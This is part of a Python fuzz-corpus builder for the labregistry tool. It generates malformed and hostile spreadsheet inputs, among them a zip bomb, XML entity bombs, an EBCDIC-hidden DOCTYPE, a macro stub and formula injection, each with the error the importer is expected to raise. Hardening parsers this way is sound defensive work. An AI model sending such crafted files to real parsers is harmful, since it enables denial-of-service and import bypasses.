    case("signed-empty-required-column", signed(edit_cell(base, std, status_ref, b"")), "bundle.bad_value",
         "a standard without a status, signed (a NOT NULL column that has a default, which the merge's "
         "explicit None would not get)")
    return cases


_HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def _cell_text(xml: bytes, ref: str) -> str:
    m = re.search(rb'<c r="' + ref.encode() + rb'"[^>]*><is><t[^>]*>(.*?)</t>', xml, re.DOTALL)
    assert m, ref
    return m.group(1).decode("utf-8")


# ---------------------------------------------------------------- ledger cases


def ledger_cases(tmp: Path) -> dict[str, tuple[bytes, Case]]:
    cases: dict[str, tuple[bytes, Case]] = {}
    base = base_ledger()
    parts = K.parts_of(base)
    sheet = "xl/worksheets/sheet1.xml"

    def case(name: str, data: bytes, expect: str, about: str, suffix: str = ".xlsx", **kw: Any) -> None:
        assert expect == "valid" or data != base or suffix != ".xlsx", f"the change of {name} did not change the file"
        file = f"ledger/{name}{suffix}"
        cases[file] = (data, Case(file, "ledger", expect, about, **kw))

    def cell(ref: str, c: bytes, data: bytes = base) -> bytes:
        return edit_part(data, sheet, lambda b: K.set_cell(b, ref, c))

    case("valid", base, "valid", f"a standards ledger of {LEDGER_RECORDS} records, header on row 1")
    lo = libreoffice_resave(base, tmp, "ledger.xlsx")
    if lo is not None:
        case("valid-libreoffice-resaved", lo, "valid", "the ledger opened and saved by LibreOffice")

    def hyperlink(wb: Any) -> None:
        wb.active["C2"].hyperlink = "http://www.example.cn/standards/1"

    case("valid-with-hyperlink", base_ledger(extra=hyperlink), "valid", "a cell hyperlink (allowed in ledgers)")

    def formula_elsewhere(wb: Any) -> None:
        ws = wb.create_sheet("统计")
        ws["A1"] = "合计"
        ws["B1"] = "=COUNTA(计量标准!B:B)-1"

    case("valid-formula-on-another-sheet", base_ledger(extra=formula_elsewhere), "valid",
         "a formula on a summary sheet that is not imported")
    case("old-xls", OLE_MAGIC + bytes(2000), "ledger.unreadable",
         "a damaged Excel 97-2003 file (an OLE header and zeros): python-calamine cannot read it", suffix=".xls")
    case("csv", "证书编号,名称\n[2023]沪量标证字第0123号,压力\n".encode(), "ledger.not_xlsx", "a CSV file", suffix=".csv")
    case("not-a-zip", "证书编号,名称\n".encode(), "ledger.not_xlsx", "a text file named .xlsx")
    case("ole-password-protected", OLE_MAGIC + bytes(2000), "xlsx.old_format",
         "an OLE file named .xlsx (what Excel writes for a password-protected workbook)")
    case("empty", b"", "xlsx.empty", "0 bytes")
    case("truncated", base[: len(base) * 2 // 3], "xlsx.corrupt", "two thirds of a ledger")
    bomb, crc = K.zero_bomb(2 * K.MiB)
    entries = raw_entries(base)
    case("zip-bomb-ratio", K.craft_zip([*[e for e in entries if e[0] != sheet], (sheet, bomb, crc, 2 * K.MiB, 8,
                                                                                  0x800)]),
         "xlsx.compression_ratio", "the sheet: 2 MiB of zeros compressed 1,000 times")
    case("duplicate-zip-entry", K.zip_bytes([*parts.items(), (sheet, parts[sheet])]), "xlsx.corrupt",
         "the sheet twice in the zip")
    for label, part in (("sheet", sheet), ("workbook", "xl/workbook.xml"), ("styles", "xl/styles.xml"),
                        ("content-types", "[Content_Types].xml"), ("workbook-rels", "xl/_rels/workbook.xml.rels")):
        case(f"billion-laughs-in-{label}", edit_part(base, part, lambda b: K.use_entity(K.with_doctype(b))),
             "xlsx.dtd", f"an XML entity bomb in {part}")
    case("utf16-sheet", edit_part(base, sheet, lambda b: K.xml_declared(b, "UTF-16")), "xlsx.corrupt",
         "the sheet in UTF-16")
    case("unknown-encoding", edit_part(base, sheet, lambda b: b'<?xml version="1.0" encoding="x-klingon"?>' + b),
         "ledger.unreadable", "an unknown encoding declared")
    case("ebcdic-hidden-doctype",
         edit_part(base, sheet, lambda b: K.xml_declared(K.use_entity(K.with_doctype(b)), "cp037")),
         "ledger.unreadable", "a DOCTYPE hidden from the byte scan by an EBCDIC encoding")
    case("macro", add_parts(base, {"xl/vbaProject.bin": b"\0" * 64}), "xlsx.macros", "macros")
    case("external-link", add_parts(base, {"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK}),
         "xlsx.external_link", "a link to another workbook")
    case("formula-in-data", cell("C3", K.formula_cell("C3", 'CONCAT("压力","装置")', "压力装置")), "ledger.formula",
         "a formula in a data cell of the imported sheet")
    case("only-sheet-hidden", K.zip_bytes(K.set_sheet_state(parts, LEDGER_SHEET, "hidden")), "ledger.no_sheets",
         "the only sheet hidden")

    def hidden_copy(wb: Any) -> None:
        wb.active.sheet_state = "hidden"
        blank = wb.create_sheet("说明")
        blank["A1"] = "本台账数据见隐藏工作表"

    case("data-only-on-hidden-sheet", base_ledger(extra=hidden_copy), "ledger.no_header",
         "the records on a hidden sheet, a visible sheet with a note: hidden sheets are never read")
    dup = add_sheet(base, LEDGER_SHEET, K.set_cell(parts[sheet], "C2", K.inline_cell("C2", "篡改 edited")))
    case("duplicate-sheet-name", dup, "ledger.duplicate_sheet",
         "the sheet listed twice under the same name, the second copy edited (Excel shows the first)")
    case("shared-string-index-out-of-range", cell("C3", K.typed_cell("C3", "s", "99999")), "ledger.unreadable",
         "a cell pointing at shared string 99,999 of none")
    case("header-only", base_ledger(records=0), "ledger.empty", "headers and no records")
    case("no-header", edit_part(base, sheet, lambda b: re.sub(rb'<row r="1".*?</row>', b"", b, count=1, flags=re.DOTALL)),
         "ledger.no_header", "the header row removed")
    case("duplicate-certificate", cell("B4", K.inline_cell("B4", "[2023]沪量标证字第0100号")), "report",
         "two records with the same certificate number", cells=["B4"])
    wrong = base
    for ref, c in (("I2", K.inline_cell("I2", "下个月")),  # a date column holding words
                   ("D3", K.number_cell("D3", "12.5")),  # the 8-digit code as a fraction
                   ("F4", K.typed_cell("F4", "b", "1")),  # a boolean range
                   ("H5", K.inline_cell("H5", "2023年13月45日"))):  # a date that does not exist
        wrong = cell(ref, c, wrong)
    case("wrong-types", wrong, "report", "a wrong type in four columns of four records",
         cells=["I2", "D3", "F4", "H5"])
    errors = base
    for ref, c in (("B5", K.typed_cell("B5", "e", "#N/A")),  # an error value as the certificate number
                   ("K6", K.number_cell("K6", "1e999", 1))):  # a due date overflowing to infinity: #VALUE!
        errors = cell(ref, c, errors)
    case("error-values", errors, "report", "Excel error values (#N/A, and a date that overflows) in two records",
         cells=["B5", "K6"])
    case("huge-merged-range",
         edit_part(base, sheet, lambda b: b.replace(b"</sheetData>", b'</sheetData><mergeCells count="1">'
                                                    b'<mergeCell ref="L1:XFD1048576"/></mergeCells>')), "valid",
         "a merged range over 17 billion cells right of the data (clamped to the used area)")
    return cases


def libreoffice_resave(data: bytes, tmp: Path, name: str) -> bytes | None:
    binary = shutil.which("libreoffice") or shutil.which("soffice")
    if binary is None:
        print("LibreOffice not found: the LibreOffice cases are left out", file=sys.stderr)
        return None
    src = tmp / "lo-in"
    out = tmp / "lo-out"
    src.mkdir(exist_ok=True)
    (src / name).write_bytes(data)
    subprocess.run([binary, f"-env:UserInstallation={(tmp / 'lo-profile').as_uri()}", "--headless", "--norestore",
                    "--convert-to", "xlsx", "--outdir", str(out), str(src / name)], check=True, capture_output=True,
                   timeout=240)
    return (out / name).read_bytes()


# ---------------------------------------------------------------- writing the corpus


def _toml_str(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def write_manifest(cases: list[Case]) -> None:
    lines = [
        "# The fuzz corpus: every file in this folder and what must happen to it.",
        "# Written by `python -m tests.fuzz.build_corpus` (edit the cases there, not here).",
        "#",
        "# kind    bundle: `labregistry verify` / `import` by a registry that trusts issuer.card;",
        "#         ledger: `labregistry import-excel --kind standards` into the own institute.",
        "# expect  an error code (the refusal's code: exit 1, one `error:` line, database unchanged),",
        "#         \"valid\" (verifies / imports cleanly), or \"report\" (a ledger whose records are refused",
        "#         and reported at `cells`: exit 1, nothing written).",
        "# known_bug  the case fails today for this reason; the suite runs it as xfail(strict=True).",
        "",
    ]
    for c in cases:
        lines.append("[[case]]")
        lines.append(f"file = {_toml_str(c.file)}")
        lines.append(f"kind = {_toml_str(c.kind)}")
        lines.append(f"expect = {_toml_str(c.expect)}")
        if c.cells:
            lines.append("cells = [" + ", ".join(_toml_str(x) for x in c.cells) + "]")
        if c.known_bug:
            lines.append(f"known_bug = {_toml_str(c.known_bug)}")
        lines.append(f"about = {_toml_str(c.about)}")
        lines.append("")
    MANIFEST.write_text("\n".join(lines), encoding="utf-8")


def main() -> None:
    import os

    os.environ.setdefault("LABREGISTRY_TEST_FAST_KDF", "1")
    from labregistry.crypto.cards import write_card

    random.seed(0)
    with tempfile.TemporaryDirectory(prefix="fuzz-corpus-") as tmpdir:
        tmp = Path(tmpdir)
        base = base_bundle(tmp)
        cases = {**bundle_cases(base, tmp), **ledger_cases(tmp)}
    for sub in ("bundle", "ledger"):
        shutil.rmtree(CORPUS / sub, ignore_errors=True)
        (CORPUS / sub).mkdir(parents=True)
    write_card(CORPUS / "issuer.card", issuer_card())
    for file, (data, _case) in cases.items():
        (CORPUS / file).write_bytes(data)
    write_manifest([c for _d, c in cases.values()])
    total = sum(p.stat().st_size for p in CORPUS.rglob("*") if p.is_file())
    print(f"{len(cases)} cases, {total / 1024:.0f} KiB in {CORPUS}")


if __name__ == "__main__":
    main()
